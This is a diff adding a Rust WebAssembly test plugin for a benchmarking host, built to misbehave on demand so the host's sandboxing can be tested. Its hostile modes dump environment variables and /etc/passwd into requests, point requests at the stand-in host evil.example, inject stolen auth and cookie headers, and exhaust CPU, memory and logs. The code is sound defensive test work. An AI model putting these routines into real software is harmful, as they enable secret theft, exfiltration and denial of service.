@@ -1,0 +1,401 @@
+//! A test plugin that misbehaves on demand, so the host's sandboxing can be
+//! proven. Without a mode it is a minimal, correct OpenAI-style plugin.
+//!
+//! The mode comes from `"hostile": "<mode>"` in the params JSON (read by
+//! `build-request`) or from an `x-hostile: <mode>` response header (read by
+//! the parser constructor). One instance serves exactly one request, so a
+//! static carries the mode from `build-request` to the parser.
+
+use std::cell::RefCell;
+use std::hint::black_box;
+use std::sync::atomic::{AtomicU8, Ordering};
+
+use serde_json::{Value, json};
+
+wit_bindgen::generate!({ path: "../../../wit", world: "plugin" });
+
+use exports::genai_bench::backend::backend::{Guest, GuestResponseParser};
+use genai_bench::backend::host;
+use genai_bench::backend::types::{
+    AuthHeader, Event, HttpRequest, LogLevel, PluginInfo, Request, ResponseHead, Task, Usage,
+};
+
+macro_rules! modes {
+    ($($variant:ident = $name:literal,)*) => {
+        #[derive(Clone, Copy, PartialEq, Eq, Debug)]
+        #[repr(u8)]
+        enum Mode {
+            None,
+            $($variant,)*
+        }
+
+        const MODES: &[Mode] = &[Mode::None, $(Mode::$variant,)*];
+
+        impl Mode {
+            fn parse(name: &str) -> Option<Mode> {
+                match name {
+                    $($name => Some(Mode::$variant),)*
+                    _ => None,
+                }
+            }
+
+            fn names() -> &'static [&'static str] {
+                &[$($name,)*]
+            }
+        }
+    };
+}
+
+modes! {
+    LoopBuild = "loop-build",
+    LoopFeed = "loop-feed",
+    AllocBuild = "alloc-build",
+    AllocFeed = "alloc-feed",
+    RecurseFeed = "recurse-feed",
+    PanicBuild = "panic-build",
+    PanicNew = "panic-new",
+    PanicFeed = "panic-feed",
+    HugeBody = "huge-body",
+    ManyHeaders = "many-headers",
+    ManyEvents = "many-events",
+    AbsUrl = "abs-url",
+    OtherHost = "other-host",
+    AuthHeader = "auth-header",
+    HostHeader = "host-header",
+    CookieHeader = "cookie-header",
+    ProxyHeader = "proxy-header",
+    ReadEnv = "read-env",
+    ReadFile = "read-file",
+    LogFlood = "log-flood",
+    SlowFeed = "slow-feed",
+    ErrBuild = "err-build",
+}
+
+/// The mode of this instance's request, as a `Mode` discriminant.
+static MODE: AtomicU8 = AtomicU8::new(Mode::None as u8);
+
+fn mode() -> Mode {
+    MODES
+        .get(usize::from(MODE.load(Ordering::Relaxed)))
+        .copied()
+        .unwrap_or(Mode::None)
+}
+
+fn set_mode(mode: Mode) {
+    MODE.store(mode as u8, Ordering::Relaxed);
+}
+
+/// The mode named by the params' `hostile` key.
+fn mode_from_params(params_json: &str) -> Result<Mode, String> {
+    if params_json.trim().is_empty() {
+        return Ok(Mode::None);
+    }
+    let params: Value =
+        serde_json::from_str(params_json).map_err(|e| format!("params are not JSON: {e}"))?;
+    match params.get("hostile") {
+        None => Ok(Mode::None),
+        Some(Value::String(name)) => Mode::parse(name).ok_or_else(|| {
+            format!(
+                "unknown hostile mode {name:?}; known: {}",
+                Mode::names().join(", ")
+            )
+        }),
+        Some(other) => Err(format!("`hostile` must be a mode name, got {other}")),
+    }
+}
+
+/// Never returns; `black_box` keeps the loop from being optimised away.
+fn spin() -> ! {
+    let mut i = 0u64;
+    loop {
+        i = black_box(i).wrapping_add(1);
+    }
+}
+
+/// Allocates and touches 1 MiB blocks forever, keeping them all.
+fn hoard() -> ! {
+    let mut kept: Vec<Vec<u8>> = Vec::new();
+    loop {
+        let mut block = vec![0u8; 1 << 20];
+        // Write every page so the memory is really committed.
+        for i in (0..block.len()).step_by(4096) {
+            block[i] = 1;
+        }
+        kept.push(black_box(block));
+    }
+}
+
+/// Unbounded recursion; the addition after the call prevents tail calls and
+/// the array keeps each frame large.
+fn recurse(depth: u64) -> u64 {
+    let frame = black_box([depth; 32]);
+    // Unreachable in practice; it keeps rustc from flagging unconditional
+    // recursion.
+    if depth == u64::MAX {
+        return 0;
+    }
+    recurse(depth + 1).wrapping_add(frame[(depth % 32) as usize])
+}
+
+/// Busy-waits about 2 ms without clocks (the plugin has none).
+fn busy_wait_2ms() {
+    let mut i = 0u64;
+    while black_box(i) < SLOW_FEED_ITERATIONS {
+        i += 1;
+    }
+}
+
+/// Iterations of `busy_wait_2ms`'s loop that take about 2 ms: measured at
+/// 1.97 ms per feed under wasmtime 50 (cranelift, x86-64).
+const SLOW_FEED_ITERATIONS: u64 = 2_000_000;
+
+fn env_dump() -> String {
+    std::env::vars()
+        .map(|(k, v)| format!("{k}={v}"))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn file_report() -> String {
+    match std::fs::read_to_string("/etc/passwd") {
+        Ok(text) => format!("read /etc/passwd: Ok({text})"),
+        Err(e) => format!("read /etc/passwd: Err({e})"),
+    }
+}
+
+fn flood_log() {
+    // ANSI colour, cursor movement, bell, NUL and other control characters.
+    let unit = "\u{1b}[31mRED\u{1b}[0m\u{1b}[2J\u{7}\u{0}\r\u{8}\u{1b}]0;title\u{7}\t\u{7f}";
+    let message = unit.repeat(10 * 1024 / unit.len() + 1);
+    for _ in 0..100_000 {
+        host::log(LogLevel::Error, &message);
+    }
+}
+
+struct Component;
+
+impl Guest for Component {
+    type ResponseParser = ResponseParser;
+
+    fn info() -> PluginInfo {
+        PluginInfo {
+            name: "hostile".to_owned(),
+            version: "0.1.0".to_owned(),
+            description: "Test plugin that misbehaves on demand".to_owned(),
+            tasks: vec![
+                Task::TextToText,
+                Task::ImageTextToText,
+                Task::TextToEmbeddings,
+            ],
+            auth: Some(AuthHeader {
+                name: "Authorization".to_owned(),
+                prefix: "Bearer ".to_owned(),
+            }),
+        }
+    }
+
+    fn validate_params(params_json: String) -> Result<(), String> {
+        mode_from_params(&params_json).map(|_| ())
+    }
+
+    fn build_request(request: Request) -> Result<HttpRequest, String> {
+        let mode = mode_from_params(&request.params_json)?;
+        set_mode(mode);
+        let embeddings = matches!(request.task, Task::TextToEmbeddings);
+        let mut path = if embeddings {
+            "/v1/embeddings"
+        } else {
+            "/v1/chat/completions"
+        }
+        .to_owned();
+        let mut headers = vec![("Content-Type".to_owned(), "application/json".to_owned())];
+        let mut body = if embeddings {
+            json!({"model": request.model, "input": request.documents})
+        } else {
+            json!({
+                "model": request.model,
+                "messages": [{"role": "user", "content": request.prompt}],
+                "max_tokens": request.max_tokens,
+                "stream": request.stream,
+            })
+        };
+        match mode {
+            Mode::LoopBuild => spin(),
+            Mode::AllocBuild => hoard(),
+            Mode::PanicBuild => panic!("hostile: panic in build-request on purpose"),
+            Mode::ErrBuild => return Err("refused on purpose".to_owned()),
+            Mode::HugeBody => {
+                return Ok(HttpRequest {
+                    method: "POST".to_owned(),
+                    path,
+                    headers,
+                    body: vec![b' '; 100 * 1024 * 1024],
+                });
+            }
+            Mode::ManyHeaders => {
+                headers.extend((0..10_000).map(|i| (format!("X-Hostile-{i}"), i.to_string())));
+            }
+            Mode::AbsUrl => path = "http://evil.example/steal".to_owned(),
+            Mode::OtherHost => path = "//evil.example/x".to_owned(),
+            Mode::AuthHeader => {
+                headers.push(("Authorization".to_owned(), "Bearer stolen".to_owned()));
+            }
+            Mode::HostHeader => headers.push(("Host".to_owned(), "evil.example".to_owned())),
+            Mode::CookieHeader => headers.push(("Cookie".to_owned(), "session=stolen".to_owned())),
+            Mode::ProxyHeader => {
+                headers.push((
+                    "Proxy-Authorization".to_owned(),
+                    "Basic c3RvbGVu".to_owned(),
+                ));
+            }
+            Mode::ReadEnv => body["env"] = Value::String(env_dump()),
+            Mode::ReadFile => body["file"] = Value::String(file_report()),
+            Mode::LogFlood => flood_log(),
+            _ => {}
+        }
+        Ok(HttpRequest {
+            method: "POST".to_owned(),
+            path,
+            headers,
+            body: body.to_string().into_bytes(),
+        })
+    }
+}
+
+struct ResponseParser(RefCell<State>);
+
+struct State {
+    status: u16,
+    stream: bool,
+    buf: Vec<u8>,
+    /// The env or file report is sent once, with the first events.
+    reported: bool,
+}
+
+impl GuestResponseParser for ResponseParser {
+    fn new(head: ResponseHead) -> Self {
+        let from_header = head
+            .headers
+            .iter()
+            .find(|(name, _)| name == "x-hostile")
+            .and_then(|(_, value)| Mode::parse(value.trim()));
+        if let Some(mode) = from_header {
+            set_mode(mode);
+            // Build-request floods for a params mode; this covers the header.
+            if mode == Mode::LogFlood {
+                flood_log();
+            }
+        }
+        if mode() == Mode::PanicNew {
+            panic!("hostile: panic in the parser constructor on purpose");
+        }
+        ResponseParser(RefCell::new(State {
+            status: head.status,
+            stream: head.stream,
+            buf: Vec::new(),
+            reported: false,
+        }))
+    }
+
+    fn feed(&self, chunk: Vec<u8>) -> Result<Vec<Event>, String> {
+        match mode() {
+            Mode::LoopFeed => spin(),
+            Mode::AllocFeed => hoard(),
+            Mode::RecurseFeed => {
+                black_box(recurse(0));
+            }
+            Mode::PanicFeed => panic!("hostile: panic in feed on purpose"),
+            Mode::ManyEvents => {
+                return Ok(vec![Event::Content("x".to_owned()); 1_000_000]);
+            }
+            Mode::SlowFeed => busy_wait_2ms(),
+            _ => {}
+        }
+        let mut state = self.0.borrow_mut();
+        let mut out = state.report();
+        state.buf.extend_from_slice(&chunk);
+        if state.status / 100 == 2 && state.stream {
+            // Complete lines only, so chunking does not change the events.
+            while let Some(i) = state.buf.iter().position(|&b| b == b'\n') {
+                let line: Vec<u8> = state.buf.drain(..=i).collect();
+                sse_line(&line, &mut out)?;
+            }
+        }
+        Ok(out)
+    }
+
+    fn finish(&self) -> Result<Vec<Event>, String> {
+        let mut state = self.0.borrow_mut();
+        let mut out = state.report();
+        let buf = std::mem::take(&mut state.buf);
+        if state.status / 100 != 2 {
+            out.push(Event::Error(genai_bench::backend::types::ApiError {
+                code: Some(i32::from(state.status)),
+                message: String::from_utf8_lossy(&buf)
+                    .trim()
+                    .chars()
+                    .take(500)
+                    .collect(),
+            }));
+        } else if state.stream {
+            sse_line(&buf, &mut out)?;
+        } else {
+            let body: Value =
+                serde_json::from_slice(&buf).map_err(|e| format!("response is not JSON: {e}"))?;
+            if let Some(text) = body["choices"][0]["message"]["content"].as_str() {
+                out.push(Event::Content(text.to_owned()));
+            }
+            push_usage(&body, &mut out);
+            out.push(Event::End);
+        }
+        Ok(out)
+    }
+}
+
+impl State {
+    fn report(&mut self) -> Vec<Event> {
+        if self.reported {
+            return Vec::new();
+        }
+        self.reported = true;
+        match mode() {
+            Mode::ReadEnv => vec![Event::Content(env_dump())],
+            Mode::ReadFile => vec![Event::Content(file_report())],
+            _ => Vec::new(),
+        }
+    }
+}
+
+fn sse_line(line: &[u8], out: &mut Vec<Event>) -> Result<(), String> {
+    let line = line.trim_ascii();
+    let Some(payload) = line.strip_prefix(b"data:") else {
+        return Ok(());
+    };
+    let payload = payload.trim_ascii();
+    if payload == b"[DONE]" {
+        out.push(Event::End);
+        return Ok(());
+    }
+    let data: Value = serde_json::from_slice(payload)
+        .map_err(|e| format!("malformed JSON in event stream: {e}"))?;
+    if let Some(text) = data["choices"][0]["delta"]["content"].as_str()
+        && !text.is_empty()
+    {
+        out.push(Event::Content(text.to_owned()));
+    }
+    push_usage(&data, out);
+    Ok(())
+}
+
+fn push_usage(data: &Value, out: &mut Vec<Event>) {
+    let usage = &data["usage"];
+    if usage.is_object() {
+        out.push(Event::Usage(Usage {
+            prompt_tokens: usage["prompt_tokens"].as_u64(),
+            completion_tokens: usage["completion_tokens"].as_u64(),
+            reasoning_tokens: usage["completion_tokens_details"]["reasoning_tokens"].as_u64(),
+        }));
+    }
+}
+
+export!(Component);
